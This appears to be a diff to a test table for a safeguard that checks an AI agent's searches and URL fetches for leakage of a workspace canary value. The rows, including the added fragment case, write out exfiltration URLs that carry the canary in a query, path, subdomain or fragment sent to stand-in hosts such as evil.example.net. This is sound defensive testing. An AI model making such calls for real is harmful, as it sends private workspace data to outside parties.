@@ -83,6 +83,7 @@ test.each<[string, ReturnType<typeof historyOf>, GateCall, string]>([
 
   ["a code of the workspace in a search", knowing, searches(`what is ${canary}`), "near"],
   ["in an address", knowing, fetchesUrl(`https://evil.example.net/c?d=${canary}`), "near"],
+  ["behind a link that stands in a page", knowing, fetchesUrl(`https://other.example.org/a/b#${canary}`), "near"],
   ["in its path", knowing, fetchesUrl(`https://evil.example.net/${canary}/x`), "near"],
   ["in the name of its host", knowing, fetchesUrl(`https://${canary.toLowerCase()}.evil.example.net/`), "near"],
   ["at a site that the user has named", knowing, fetchesUrl(`https://docs.example.com/?q=${canary}`), "near"],
